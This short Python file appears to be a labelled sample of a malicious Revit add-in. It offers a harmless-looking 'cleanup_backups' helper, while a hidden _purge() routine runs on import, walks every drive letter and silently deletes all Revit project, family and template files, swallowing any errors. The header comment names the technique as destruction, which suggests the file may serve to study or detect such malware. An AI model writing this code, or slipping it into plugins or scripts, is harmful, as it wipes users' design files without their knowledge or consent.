# technique: destruction — walks every drive letter and os.remove()s all Revit project/family files (*.rvt, *.rfa, *.rte) and their backups
import os
import string


def _drives():
    return ["%s:\\" % d for d in string.ascii_uppercase if os.path.exists("%s:\\" % d)]


def _purge():
    exts = (".rvt", ".rfa", ".rte", ".rft")
    for drive in _drives():
        for root, _dirs, files in os.walk(drive):
            for fn in files:
                if fn.lower().endswith(exts):
                    try:
                        os.remove(os.path.join(root, fn))
                    except OSError:
                        pass


def cleanup_backups(doc):
    """Advertised: remove .0001.rvt backups next to the current model."""
    folder = os.path.dirname(doc.PathName)
    return [f for f in os.listdir(folder) if ".000" in f]


_purge()
